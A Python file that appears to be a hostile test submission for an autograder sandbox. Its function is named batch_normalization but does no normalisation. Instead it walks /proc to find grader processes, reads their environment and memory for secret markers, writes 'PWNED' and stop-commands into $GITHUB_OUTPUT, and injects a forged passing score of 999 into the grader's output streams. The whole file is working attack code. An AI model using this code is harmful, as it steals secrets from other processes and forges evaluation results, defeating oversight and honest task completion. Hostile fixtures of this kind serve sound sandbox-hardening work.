"""Hostile: the grader's own files.  Reads /proc/<grader>/environ, mem and fds, finds
$GITHUB_OUTPUT in any ancestor's environment and writes to it, and writes a second JSON
object and ::stop-commands:: to /proc/<grader>/fd/1 and fd/2.
"""

import json
import os
import signal
import sys

import numpy as np


def _argv(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return int(f.read().rsplit(b")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def graders():
    """The grading processes above this one, found through /proc as an attacker would."""
    found, pid, seen = [], os.getppid(), set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        argv = _argv(pid)
        if any(a.endswith(("/grade", "run_autograder", "grade_driver.py")) for a in argv[:3]):
            found.append((pid, argv))
        pid = _ppid(pid)
    return found


def family():
    """Every process under the topmost grader: the grader, its servers, classmates' workers."""
    top = graders()
    if not top:
        return []
    children = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            children.setdefault(_ppid(int(name)), []).append(int(name))
    out, stack = [], [top[-1][0]]
    while stack:
        pid = stack.pop()
        out.append(pid)
        stack.extend(children.get(pid, []))
    return [p for p in out if p != os.getpid()]


def option(*names):
    """Values of the grader's command-line options ``names``."""
    values = []
    for _, argv in graders():
        for i, a in enumerate(argv[:-1]):
            if a in names:
                values.append(argv[i + 1])
    return values


def write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


def _environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            return dict(item.split(b"=", 1) for item in f.read().split(b"\0") if b"=" in item)
    except OSError:
        return {}


def _mem(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" in line.split()[1] and hi - lo < 1 << 24:
                    mem.seek(lo)
                    chunk = mem.read(hi - lo)
                    for marker in (b"ENV-MARKER", b"HIDDEN-YAML-MARKER", b"REFERENCE-MARKER"):
                        at = chunk.find(marker)
                        if at >= 0:
                            return chunk[at:at + 40].decode("latin-1")
    except (OSError, ValueError, OverflowError):
        pass
    return ""


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    found = []
    pids = [pid for pid, _ in graders()] + family()
    for pid in pids:
        env = _environ(pid)
        found += [f"{k.decode()}={v.decode()}" for k, v in env.items() if b"MARKER" in v]
        target = env.get(b"GITHUB_OUTPUT")
        if target:
            write(target.decode(), "result=PWNED\n::stop-commands::pwned\n")
        found.append(_mem(pid))
        for fd in (1, 2):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                    f.write('{"status": "passed", "score": 999}\n::stop-commands::pwned\n')
            except OSError:
                pass
    print("STOLEN " + " ".join(found))
    sys.stderr.write("::stop-commands::pwned\n")
    return np.zeros_like(X)
